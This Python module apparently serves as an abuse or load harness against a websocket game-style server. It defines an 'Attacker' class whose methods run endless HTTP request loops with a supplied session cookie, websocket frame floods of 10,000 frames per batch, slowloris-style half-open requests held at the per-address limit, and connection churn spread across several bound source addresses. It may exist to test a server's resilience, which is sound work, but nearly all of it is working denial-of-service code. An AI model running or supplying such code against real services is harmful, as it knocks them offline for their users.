"""Somebody who asks for the worst there is, as often as an address may."""

from __future__ import annotations

import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from random import Random
from socket import socket
from typing import NamedTuple

from msgspec import json

FLOODED = 10_000  # frames in one go
HANDS = 8  # connections at once
MOST_HELD = 200 // HANDS  # connections an address may have open, for each hand


class Aim(NamedTuple):
    """A server, somebody there, tables of theirs, and names of what is written."""

    host: str
    origin: str
    cookie: str
    table: str
    over: str
    puzzle: str  # a table
    puzzle_id: str
    lesson: str  # a table
    lesson_id: str


class Attacker:
    """Asks until it is ended, through several connections."""

    def __init__(self, aim: Aim, address: str) -> None:
        self.aim = aim
        self.host, _, port = aim.host.partition(":")
        self.port = int(port)
        self.headers = {"Origin": aim.origin, "Cookie": aim.cookie, "Accept-Encoding": "br"}
        self.address = address

    def ask(self, method: str, path: str, body: bytes | None = None, is_known: bool = True) -> None:
        """One request after another, for ever; as a guest, unless one is not to be known."""
        path = path.format(**self.aim._asdict())
        for name, told in self.aim._asdict().items():
            body = body and body.replace(f"{{{name}}}".encode(), told.encode())
        who = self.headers if is_known else {"Origin": self.aim.origin}
        while True:
            connection = HTTPConnection(
                self.host, self.port, source_address=(self.address, 0), timeout=20
            )
            try:
                while True:
                    headers = {"Content-Type": "application/json"} if body else {}
                    connection.request(method, path, body, who | headers)
                    answer = connection.getresponse()
                    answer.read()
                    # Within the ration: what is beyond it is refused, and costs next to nothing.
                    time.sleep(0.2 if answer.status == 429 else 0)
            except (OSError, HTTPException):
                time.sleep(0.1)
            finally:
                connection.close()

    def talk(self, *messages: Mapping[str, object]) -> None:
        """Messages through a socket whose answers are thrown away, for ever."""
        self.send(*(masked(json.encode(message)) for message in messages))

    def flood(self, frame: bytes, first: bytes = b"") -> None:
        """One frame after another through sockets as fast as they are taken, for ever."""
        while True:
            with suppress(OSError), self._joined(self.aim.table) as raw:
                raw.setblocking(True)
                raw.settimeout(5)
                raw.sendall(first)
                while True:
                    raw.sendall(frame * FLOODED)
            time.sleep(0.1)

    def send(self, *frames: bytes) -> None:
        """Frames through a socket whose answers are thrown away, for ever."""
        rng = Random(1)
        while True:
            try:
                with self._joined(self.aim.table) as raw:
                    while True:
                        raw.sendall(rng.choice(frames))
                        time.sleep(0.05)
                        with suppress(BlockingIOError):
                            while raw.recv(1_000_000):
                                pass
            except OSError:
                time.sleep(0.1)

    def stare(self) -> None:
        """Requests that are begun and never ended, again whenever they are cut off, for ever.

        All hands together have as many open as an address may, and try for one more.
        """
        held: list[socket] = []
        while True:
            try:
                raw = socket()
                raw.bind((self.address, 0))
                raw.connect((self.host, self.port))
                raw.sendall(b"GET / HTTP/1.1\r\nHost: ")
                held.append(raw)
            except OSError:
                time.sleep(0.1)
            if len(held) > MOST_HELD:
                held.pop(0).close()
                time.sleep(0.02)

    def knock(self) -> None:
        """Connections that are opened and closed without a word, for ever."""
        while True:
            with suppress(OSError), socket() as raw:
                raw.bind((self.address, 0))
                raw.connect((self.host, self.port))

    @contextmanager
    def _joined(self, table: str) -> Iterator[socket]:
        with socket() as raw:
            raw.bind((self.address, 0))
            raw.connect((self.host, self.port))
            lines = [
                f"GET /ws/tables/{table} HTTP/1.1",
                f"Host: {self.host}:{self.port}",
                *(f"{name}: {value}" for name, value in self.headers.items()),
                "Upgrade: websocket",
                "Connection: Upgrade",
                "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                "Sec-WebSocket-Version: 13",
            ]
            raw.sendall("\r\n".join(lines).encode() + b"\r\n\r\n")
            raw.settimeout(5)
            if b" 101 " not in raw.recv(4096):
                raise ConnectionError("turned away")
            raw.sendall(masked(b'{"type":"join"}'))
            raw.setblocking(False)
            yield raw


def masked(text: bytes) -> bytes:
    """A frame as clients send it, under a mask that changes nothing."""
    size = len(text)
    length = bytes([0x80 | size]) if size < 126 else bytes([0xFE]) + size.to_bytes(2, "big")
    return b"\x81" + length + bytes(4) + text
